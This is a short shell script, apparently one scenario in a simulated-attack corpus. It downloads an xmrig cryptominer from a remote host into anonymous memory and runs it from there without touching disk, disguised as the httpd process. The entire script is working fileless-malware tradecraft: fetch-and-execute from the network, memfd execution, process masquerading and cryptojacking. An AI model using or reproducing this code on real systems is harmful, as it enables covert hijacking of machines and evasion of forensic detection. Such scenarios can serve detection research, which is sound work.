# 7: nothing on disk: Python downloads into anonymous memory and becomes it, from a shell that has already gone.
. /opt/corpus/scenarios/lib.sh
(setsid python3 -c '
import os, sys, time, urllib.request
memory = os.memfd_create("", 0)
while not os.lseek(memory, 0, os.SEEK_END):
    try:
        os.write(memory, urllib.request.urlopen(f"http://{sys.argv[1]}:8000/xmrig").read())
    except OSError:
        time.sleep(1)
if os.fork(): os._exit(0)
os.execve(f"/proc/self/fd/{memory}", ["/usr/sbin/httpd", *sys.argv[2:]], {"PATH": "/bin"})' "$HOST" $POOL_ARGS &)
while :; do sleep 5; done
